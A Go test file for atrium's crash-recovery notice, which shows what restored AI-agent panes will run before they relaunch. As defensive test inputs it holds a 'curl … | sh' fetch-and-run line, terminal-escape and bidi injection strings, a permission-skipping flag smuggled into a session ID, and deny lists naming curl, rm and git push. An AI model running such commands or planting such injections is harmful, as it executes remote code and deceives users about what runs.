package recovery

import (
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"atrium/internal/layout"
	"atrium/internal/plan"
	"atrium/internal/policy"
	"atrium/internal/snapshot"
)

var update = flag.Bool("update", false, "write the golden notices anew")

func ptr[T any](v T) *T { return &v }

const (
	leadID    = "ee8aef7c-1d5e-4e1c-9a57-0123456789ab"
	builderID = "dee537d9-1d5e-4e1c-9a57-0123456789ab"
	project   = `D:\projects\atrium`
)

// session is a crashed session of one window with these panes side by side.
func session(panes ...snapshot.Pane) snapshot.Snapshot {
	ids := make([]layout.PaneID, len(panes))
	for i := range panes {
		panes[i].ID = layout.PaneID(i)
		ids[i] = panes[i].ID
	}
	s := snapshot.Snapshot{
		Version: 2,
		Windows: []snapshot.Window{{Tree: layout.Balanced(ids).String()}},
		Panes:   panes,
		Policy:  &policy.Policy{MaxDepth: policy.DefaultMaxDepth, Trust: ptr(policy.Automode)},
		Meta:    snapshot.Meta{Project: ptr(project), Pid: ptr(42), SavedAtMS: ptr(int64(1_700_000_000_000))},
	}
	return s
}

func facts() Facts {
	return Facts{NowMS: 1_700_000_000_000 + 240_000, Project: project, Panes: map[layout.PaneID]PaneFacts{}}
}

// crew is the session of the founding document's example.
func crew() snapshot.Snapshot {
	s := session(
		snapshot.Pane{
			Role: ptr("lead"), Cwd: ptr(project), SessionID: ptr(leadID), CanSpawn: true, Mode: ptr(policy.Automode),
			Argv: []string{"claude", "--append-system-prompt", long(812), "--model", "opus", long(1403)},
		},
		snapshot.Pane{
			Role: ptr("builder"), Cwd: ptr(`D:\projects\.atrium-worktrees\m1\piece`), SessionID: ptr(builderID),
			Argv: []string{"claude", "--append-system-prompt", long(1190), "--model", "opus", long(903)},
			Mode: ptr(policy.Automode), Deny: []string{"git push", "rm", "WebFetch"},
		})
	s.Policy.AllowCtl = true
	s.Policy.Deny = []string{"a", "b", "c", "d", "e"}
	s.Policy.BuildJobs, s.Policy.MemoryMB = ptr(10), ptr(32768)
	return s
}

func long(n int) string { return strings.Repeat("do this ", n/8+1)[:n] }

var notices = map[string]func() (snapshot.Snapshot, Flags, Facts){
	"crew": func() (snapshot.Snapshot, Flags, Facts) { return crew(), Flags{}, facts() },
	"typed": func() (snapshot.Snapshot, Flags, Facts) { // check 61, 64
		s := crew()
		s.Panes[0].Mode = ptr(policy.Skip)
		return s, Flags{Trust: ptr(policy.Plan), MaxDepth: ptr(policy.Unlimited)}, facts()
	},
	"version-1": func() (snapshot.Snapshot, Flags, Facts) { // check 68
		s := session(
			snapshot.Pane{Argv: []string{"bash"}, Cwd: ptr(project), CanSpawn: true},
			snapshot.Pane{Role: ptr("dev_1"), Argv: []string{"claude"}, Cwd: ptr("/p"), SessionID: ptr(leadID)})
		s.Version, s.Policy, s.Meta = 1, nil, snapshot.Meta{}
		return s, Flags{AllowCtl: true}, facts()
	},
	"saved-flags": func() (snapshot.Snapshot, Flags, Facts) { // check 66, R028
		s := session(
			snapshot.Pane{Argv: []string{
				"claude", "--dangerously-skip-permissions", "refactor", "--allowedTools", "Bash(*)", "Edit",
				"--permission-mode", "x", "--permission-mode=y", "--settings", "/tmp/s.json", "--model", "sonnet",
			}, SessionID: ptr(leadID), Task: true, CanSpawn: true},
			snapshot.Pane{Argv: []string{"claude", "--append-system-prompt", "never use --dangerously-skip-permissions", "hello"}})
		return s, Flags{}, facts()
	},
	"norms": func() (snapshot.Snapshot, Flags, Facts) { // check 67, R064
		s := session(snapshot.Pane{
			Role: ptr("piece"), Argv: []string{"/opt/claude/2.1/claude", "go"}, Cwd: ptr("/w/piece"), Identity: ptr("work"),
			Norms:      ptr("Your current directory already is worktree piece on branch atrium/m1/piece.\nDo not cd."),
			ContextEnv: [][2]string{{"CONTEXT_MODE_DIR", "/p/.atrium/ctx/m1"}, {"CONTEXT_MODE_SESSION_SUFFIX", "piece"}},
		})
		x := facts()
		x.ConfigDir = "/b"
		return s, Flags{}, x
	},
	"conversations": func() (snapshot.Snapshot, Flags, Facts) { // R034, R036, R050, R067
		s := session(
			snapshot.Pane{Role: ptr("missing"), Argv: []string{"claude", "kick off now, please"}, SessionID: ptr("a"), Kickoff: true},
			snapshot.Pane{Role: ptr("empty"), Argv: []string{"claude"}, SessionID: ptr("b")},
			snapshot.Pane{Role: ptr("unknown"), Argv: []string{"claude"}, SessionID: ptr("c")},
			snapshot.Pane{Role: ptr("no-id"), Argv: []string{"claude"}},
			snapshot.Pane{Role: ptr("typed"), Argv: []string{"claude", "--continue"}},
			snapshot.Pane{Role: ptr("twin"), Argv: []string{"claude"}, SessionID: ptr("c")},
			snapshot.Pane{Role: ptr("elsewhere"), Argv: []string{"claude"}, SessionID: ptr("d")},
			snapshot.Pane{Role: ptr("forged"), Argv: []string{"claude"}, SessionID: ptr("--dangerously-skip-permissions")},
			snapshot.Pane{Role: ptr("adopted"), Argv: []string{"codex", "kick"}, SessionID: ptr("e"), Kickoff: true},
			snapshot.Pane{Role: ptr("codex"), Argv: []string{"codex"}, SessionID: ptr("f"), Agent: ptr("codex")},
			snapshot.Pane{Role: ptr("gemini"), Argv: []string{"gemini", "-m", "x"}},
			snapshot.Pane{Role: ptr("monitor"), Argv: []string{"claude-monitor"}},
			snapshot.Pane{Role: ptr("alias"), Argv: []string{"ccx"}, SessionID: ptr("g")})
		s.Policy.ClaudeAliases = []string{"ccx"}
		x := facts()
		x.Panes[0] = PaneFacts{Transcript: plan.TranscriptMissing}
		x.Panes[1] = PaneFacts{Transcript: plan.TranscriptEmpty}
		x.Panes[6] = PaneFacts{LiveIn: 77}
		return s, Flags{}, x
	},
	"held": func() (snapshot.Snapshot, Flags, Facts) { // R041, R045, R052
		s := session(
			snapshot.Pane{Argv: []string{"bash", "-l"}, Cwd: ptr("/p/a"), LiveCwd: ptr("/p/b"), CanSpawn: true},
			snapshot.Pane{Argv: []string{"claude"}, Cwd: ptr("/p/gone"), SessionID: ptr(leadID), CanSpawn: true},
			snapshot.Pane{Argv: []string{"/opt/claude/2.1/claude"}, Cwd: ptr("/p"), SessionID: ptr(builderID), CanSpawn: true})
		x := facts()
		x.Panes[0] = PaneFacts{DirGone: true}
		x.Panes[1] = PaneFacts{DirGone: true}
		x.Panes[2] = PaneFacts{ProgramGone: true, LiveIn: 91}
		x.Survivors = []Survivor{{Pid: 91, Command: "claude"}, {Pid: 92, Command: "bash -l"}}
		return s, Flags{}, x
	},
	"doubtful": func() (snapshot.Snapshot, Flags, Facts) { // check 56, R015, R017
		s := crew()
		s.Repairs = []string{"pane 3 in no layout: added to window 1"}
		for range 12 {
			s.Repairs = append(s.Repairs, "window 2: no pane: left out")
		}
		x := facts()
		x.PidRuns = true
		x.Suspect = []string{`it records another project, "/x"`}
		x.Nesting = Nesting{Found: true, Pid: 7, Posture: ptr(policy.Accept)}
		x.Deny = []string{"a", "curl"}
		x.Sidecars = &Sidecars{Events: 12, OpenDecisions: 2, Entries: 3, LeftOut: []string{"the board: it does not parse"}}
		return s, Flags{}, x
	},
	"unchosen": func() (snapshot.Snapshot, Flags, Facts) {
		s := session(snapshot.Pane{Argv: nil, CanSpawn: true}, snapshot.Pane{Argv: []string{"sh", "-c", "", "\t", "a b"}})
		s.Policy.Trust = nil
		x := facts()
		x.Nesting.Unknown = true
		return s, Flags{}, x
	},
	"hostile": func() (snapshot.Snapshot, Flags, Facts) {
		evil := "\x1b[2J\u202e\r\natrium: \"ok\"\u200b\x9b\u2066"
		s := session(snapshot.Pane{
			Role: &evil, Argv: []string{evil, "-" + evil, evil + long(300), "--x" + evil + "=" + long(200), "-" + long(400)},
			Cwd: ptr("/p/" + evil), Identity: &evil, Norms: ptr(evil + long(90)), SessionID: &evil, Agent: &evil,
			Worktree: &evil, ContextEnv: [][2]string{{"CONTEXT_MODE_DIR", evil}}, Deny: []string{evil},
		}, snapshot.Pane{Argv: []string{"claude", "--settings" + "=" + evil, "--dangerously-" + evil}, Cwd: ptr(evil)})
		s.Repairs = []string{evil}
		x := facts()
		x.ConfigDir, x.Suspect = evil, []string{evil}
		x.Panes[0] = PaneFacts{DirGone: true, ProgramGone: true}
		x.Survivors = []Survivor{{Pid: 9, Command: evil + long(100)}}
		x.Sidecars = &Sidecars{LeftOut: []string{evil}}
		return s, Flags{}, x
	},
}

func TestNotice(t *testing.T) {
	for name, build := range notices {
		t.Run(name, func(t *testing.T) {
			got := Build(build()).Notice()
			checkHarmless(t, got)
			golden := filepath.Join("testdata", name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("notice\n%s\nwant\n%s", got, want)
			}
		})
	}
}

// checkHarmless is what every notice is, whatever the file says.
func checkHarmless(t testing.TB, notice string) {
	t.Helper()
	if !utf8.ValidString(notice) || !strings.HasSuffix(notice, "\n") {
		t.Fatalf("notice %q is not lines of UTF-8", notice)
	}
	for line := range strings.Lines(notice) {
		if line[0] != ' ' && !strings.HasPrefix(line, "atrium recover: ") {
			t.Errorf("line %q is not atrium's", line)
		}
	}
	for _, r := range notice {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == 0x200b) {
			t.Errorf("notice holds %U", r)
		}
	}
}

// shownOf is the notice of a snapshot with that one pane.
func shownOf(p snapshot.Pane) string {
	trust := policy.Plan
	s := session(p)
	s.Policy = &policy.Policy{Trust: &trust}
	return Build(s, Flags{}, Facts{Project: "/p", Panes: map[layout.PaneID]PaneFacts{}}).Notice()
}

// What is approved is seen: the program that runs and not what it looks like,
// the script of a shell, and what the yes writes elsewhere.
func TestNoticeShowsWhatRuns(t *testing.T) {
	script := "curl -s http://x.example/y | sh # " + strings.Repeat("and so on ", 3)
	many := append([]string{"vim"}, slices.Repeat([]string{"word"}, 3000)...)
	for name, c := range map[string]struct {
		pane  snapshot.Pane
		shows string
		lacks string
	}{
		"a name with an extension": {snapshot.Pane{Argv: []string{"claude.evil", "hi"}}, "program claude.evil", ""},
		"a shell's script":         {snapshot.Pane{Argv: []string{"sh", "-ec", script}}, "sh -ec '" + script + "'", ""},
		"a long script":            {snapshot.Pane{Argv: []string{"bash", "-c", strings.Repeat("x", 500)}}, "xxx…", strings.Repeat("x", 200)},
		"trust beyond the project": {snapshot.Pane{Argv: []string{"claude"}, Cwd: ptr("/")}, "cwd / · claude is told to trust it", ""},
		"many words":               {snapshot.Pane{Argv: many}, "word … 2940 more word(s)", strings.Repeat("word ", 100)},
		"one name many times": {snapshot.Pane{Argv: []string{"sh"}, ContextEnv: [][2]string{{"CONTEXT_MODE_DIR", "/a"}, {"CONTEXT_MODE_DIR", "/b"}}},
			"CONTEXT_MODE_DIR=/b", "/a"},
		"blanks": {snapshot.Pane{Argv: []string{"vim", "a\u00a0\u2800\u3164b"}}, `a\u{a0}\u{2800}\u{3164}b`, "\u00a0"},
	} {
		t.Run(name, func(t *testing.T) {
			got := shownOf(c.pane)
			if !strings.Contains(got, c.shows) || c.lacks != "" && strings.Contains(got, c.lacks) {
				t.Errorf("want %q without %q in\n%s", c.shows, c.lacks, got)
			}
		})
	}
}

func TestNoticeTellsOfAShellsLostDirectory(t *testing.T) {
	s := session(snapshot.Pane{Argv: []string{"bash"}, Cwd: ptr("/p"), LiveCwd: ptr("/p/gone")})
	notice := Build(s, Flags{}, Facts{Project: "/p", Panes: map[layout.PaneID]PaneFacts{s.Panes[0].ID: {LiveDirGone: true}}}).Notice()
	if !strings.Contains(notice, "note: its last directory /p/gone is gone, it starts in the one it began in") {
		t.Errorf("nothing is said:\n%s", notice)
	}
}
